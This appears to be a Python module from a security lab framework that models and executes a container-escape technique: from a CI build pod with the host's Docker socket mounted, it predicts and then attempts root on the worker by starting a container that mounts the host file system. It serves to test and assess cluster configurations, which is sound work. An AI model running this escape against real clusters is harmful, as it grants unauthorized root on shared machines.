"""Become root on a worker from a pod in which the machine's Docker socket is mounted.

A build pod with the socket can start any container on its machine. The attacker needs a foothold
in this pod. A read-only mount does not stop them: a client connects to a socket and does not
write to the file. If the pod does not run as root, the mode of the socket counts. A pod without
the mount stops it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.model.workloads import mounted, user_of
from labkit.techniques._lib.machines.pod import find_pod, run_in_pod
from labkit.techniques._lib.stores.docker import SOCKET, become_root, control
from labkit.techniques._lib.technique import (
    POD,
    ROOT_ON_WORKER,
    Prediction,
    Technique,
    any_of,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.cluster import Environment
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

BUILDER = ("ci", "builder")
CHANNEL = f"local-users@worker1 -> dockerd@worker1:{SOCKET}"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the socket is mounted in the pod and admits the pod's user."""
    mount, user = mounted(model.environment, *BUILDER, SOCKET), user_of(model.environment, *BUILDER)
    if mount.value == "none":
        return Prediction(False, (str(mount),))
    found = model.open_channels(CHANNEL)
    if not found:
        return Prediction(False, tuple(str(c.encryption) for c in model.closed_channels(CHANNEL)))
    claim = found[0].client_authentication
    # the pod is in no group of the machine's; to root the mode is no hindrance
    opened = any_of(Prediction(user.value == "0"), holds(claim, "none"))
    return Prediction(opened.succeeds, (str(mount), str(claim), str(user.source)))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Start a container that mounts the worker's file system, from inside the build pod."""
    pod = find_pod(lab, *BUILDER)
    path = mounted(lab.environment, *BUILDER, SOCKET).detail
    name = "/".join(BUILDER)
    if path.startswith("/"):
        return become_root(lab, TECHNIQUE.name, foothold, f"unix://{path}", pod=pod)
    for path_there in (f"/machine{SOCKET}", SOCKET, f"/var{SOCKET}"):
        if not run_in_pod(lab, pod, ["test", "-e", pod.path(path_there)]).exit_code:
            raise ProbeError(f"{name} has {path_there}, but its manifest does not mount it")
    asked = (f"looked for {SOCKET} of its machine in {name}",)
    reason = "no docker socket in the pod"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, asked, control(lab))


def _settings(env: Environment) -> list[Setting]:
    mount = mounted(env, *BUILDER, SOCKET)
    return [("the docker socket in ci/builder", mount.value, str(mount.source))]


TECHNIQUE = Technique(
    name="docker-socket-in-pod",
    title="Become root on a worker through the docker socket in a pod",
    footholds=(POD,),
    grants=(ROOT_ON_WORKER,),
    about=CHANNEL,
    properties=("client_authentication",),
    attack=("T1610", "T1611"),
    stride=("elevation of privilege",),
    cwe=("CWE-250", "CWE-668"),
    sources=(
        "CIS Docker Benchmark 5.32",
        "https://docs.docker.com/engine/security/",
        "https://attack.mitre.org/techniques/T1611/",
    ),
    predict=predict,
    execute=execute,
    leaves=("container",),
    settings=_settings,
)
